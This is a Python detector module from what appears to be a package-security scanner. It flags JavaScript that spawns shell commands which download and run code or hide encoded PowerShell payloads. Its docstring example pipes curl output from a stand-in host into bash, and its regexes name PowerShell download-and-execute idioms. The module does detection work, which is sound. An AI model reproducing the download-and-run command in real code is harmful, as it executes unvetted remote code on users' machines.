"""Code starts a command line that fetches or hides what it runs.

*What it does*

Words the command lines that code starts (`exec`, `spawn` and their relatives), whatever pieces they are put together
of, and reads them as the lines of install scripts are read: a downloader that is piped into an interpreter, a file that
is downloaded and run, an encoded payload, a PowerShell command that is hidden, facts about the machine that are sent
out.

On installation this counts most. What only a command starts that the user calls by name counts little: deploy tools and
set-up commands do such things when they are asked to.

*Why it matters*

Who moves such a line from `package.json` into a file of code hides it from every tool that reads scripts only. What it
fetches can be changed after somebody has looked.

*Example*

    const { exec } = require("child_process");
    const host = "https://cdn.acme.invalid";
    exec("curl -s " + host + "/setup.sh | bash");
"""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator

from assay.detectors._command_line import Shape, shape_of
from assay.detectors.source._acts import Act, Weight, acts, when
from assay.javascript.alarms import NETWORK_SHELL, TELLING_COMMAND
from assay.model.finding import Finding, finding
from assay.model.rule import Concern, Rule, Severity
from assay.model.source import BehaviourKind
from assay.model.subject import Subject

RULE = Rule(
    id="shell-command",
    title="Starts a command that fetches or hides what it runs",
    severity=Severity.HIGH,
    concern=Concern.MALICE,
    advice="Do not install or run it. Read what the command would fetch or decode.",
    techniques=("T1059.004", "T1059.001", "T1105"),
)
_WEIGHT = Weight(on_install=Severity.HIGH, when_used=Severity.HIGH, by_command=Severity.LOW)
_PROCESS = frozenset({BehaviourKind.PROCESS})
#: Honest wrappers of PowerShell encode their commands, too, but do so as they run: the encoded text is not in their
#: code, and what it says is.
_POWERSHELL = re.compile(r"\b(?:powershell|pwsh)\b", re.IGNORECASE)
_LITERAL = re.compile(r"[A-Za-z0-9+/]{40,}={0,2}")
#: Characters of a line that a reader recognises.
_READABLE = 12
_FETCHES = re.compile(r"https?:|DownloadString|DownloadFile|\biex\b|Invoke-Expression", re.IGNORECASE)


def detect(subject: Subject) -> Iterator[Finding]:
    """One finding for each file that starts such a command, about the first."""
    told: set[str] = set()
    for act in acts(subject, _PROCESS, TELLING_COMMAND):
        shape = _shape(subject, act)
        if shape is None or act.file.path in told:
            continue
        told.add(act.file.path)
        severity, confidence = _WEIGHT.of(act.file)
        yield finding(
            RULE,
            f"{subject.ref} starts a command that {shape.what} {when(act.file)}",
            act.evidence(f"{act.behaviour.detail} starts a command that {shape.what}"),
            severity=severity,
            confidence=min(confidence, shape.confidence),
        )


def _is_hidden(subject: Subject, act: Act, line: str) -> bool:
    """True if a line carries an encoded command that does not stand readable in the file, or fetches something."""
    literal = _LITERAL.search(line)
    if literal is None:
        return False
    encoded = literal[0].rstrip("=")
    command = base64.b64decode(encoded[: len(encoded) // 4 * 4]).decode("utf-16-le", "ignore")
    longest = max(command.splitlines() or [""], key=len).strip()
    members = subject.tarball.members if subject.tarball else ()
    data = next((each.data for each in members if each.path == act.file.path and each.data), b"")
    return bool(_FETCHES.search(command)) or len(longest) < _READABLE or longest.encode() not in data


def _shape(subject: Subject, act: Act) -> Shape | None:
    """The shape of the first line that has one of the worst kind. A shell over the network has a rule of its own."""
    for line in act.behaviour.decoded.splitlines():
        shape = None if NETWORK_SHELL.search(line) else shape_of(line)
        if shape is None or shape.severity < Severity.HIGH:
            continue
        if _POWERSHELL.search(line) and not _FETCHES.search(line) and not _is_hidden(subject, act, line):
            continue
        return shape
    return None
